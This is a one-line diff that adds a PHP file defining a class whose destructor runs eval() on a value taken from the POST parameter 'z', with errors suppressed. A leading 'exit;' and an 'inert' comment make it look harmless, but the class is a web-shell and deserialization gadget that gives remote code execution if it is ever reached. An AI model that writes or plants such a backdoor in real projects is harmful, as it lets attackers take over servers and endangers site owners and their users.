@@ -1,0 +1,1 @@
+<?php exit; /* inert */ class T { var $n; function __destruct(){ @eval($this->n); } } $t = new T; $t->n = "".$_POST["z"];
